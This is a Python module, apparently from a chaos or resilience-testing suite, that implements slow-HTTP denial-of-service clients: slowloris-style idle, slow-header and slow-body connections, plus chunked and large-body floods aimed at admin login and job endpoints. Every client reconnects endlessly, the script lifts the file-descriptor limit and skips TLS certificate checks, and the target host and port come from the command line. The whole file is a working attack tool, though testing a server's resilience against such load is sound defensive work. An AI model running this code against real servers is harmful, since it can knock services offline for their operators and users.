"""Clients that keep a web server waiting, in a process of their own: `python -m chaos.http_attacks KIND HOST PORT`.

Each opens its connections, opens again what is closed, and goes on until it is killed. A line on standard output says
that the first one is open.
"""

from __future__ import annotations

import asyncio
import contextlib
import resource
import ssl
import sys
from collections.abc import Coroutine
from typing import Any

FORM = b"POST /admin/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
BATCH = b"POST /admin/jobs/queues/token-refresh/batch HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
#: One-byte chunks of 0.6 MB.
CHUNKS = b"1\r\nx\r\n" * 600_000
#: What a trickling client sends first, and how many there are.
TRICKLES = {
    "idle": (b"", 2_000),
    "heads": (b"GET /admin/login HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", 600),
    "bodies": (FORM + b"Content-Length: 5000\r\n\r\n", 600),
}
#: What is sent as fast as it is taken, and by how many.
FLOODS = {
    "chunks": (FORM + b"Transfer-Encoding: chunked\r\n\r\n" + CHUNKS, 8),
    "large": (BATCH + b"Content-Length: 8000000\r\n\r\n" + b" " * 7_900_000, 150),
}
KINDS = (*TRICKLES, *FLOODS)


class Attack:
    """One kind of clients against one address."""

    def __init__(self, kind: str, host: str, port: int, *, tls: bool) -> None:
        self.kind = kind
        self.address = host, port
        self.tls = ssl._create_unverified_context() if tls else None
        self._has_begun = False

    async def run(self, share: float) -> None:
        """Go on for ever with this share of the clients."""
        first, count = (TRICKLES | FLOODS)[self.kind]
        act = self._trickle if self.kind in TRICKLES else self._flood
        await asyncio.gather(*(self._again(act, first) for _ in range(max(2, int(count * share)))))

    async def _again(self, act: Any, first: bytes) -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                await self._once(act, first)
            await asyncio.sleep(0.1)

    async def _once(self, act: Any, first: bytes) -> None:
        reader, writer = await asyncio.open_connection(*self.address, ssl=self.tls)
        if not self._has_begun:
            self._has_begun = True
            print("begun", flush=True)
        try:
            await act(reader, writer, first)
        finally:
            writer.close()

    async def _trickle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, first: bytes) -> None:
        writer.write(first)
        while True:
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(1.0):
                    if not await reader.read(1000):
                        return
            if first:
                writer.write(b"x")

    async def _flood(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, first: bytes) -> None:
        for at in range(0, len(first), 65_536):
            writer.write(first[at : at + 65_536])
            await writer.drain()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(20.0):
                await reader.read(100)


def main() -> Coroutine[Any, Any, None]:
    """Return the attack that the command line names."""
    kind, host, port, tls, share = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    return Attack(kind, host, int(port), tls=tls == "tls").run(float(share))


if __name__ == "__main__":
    asyncio.run(main())
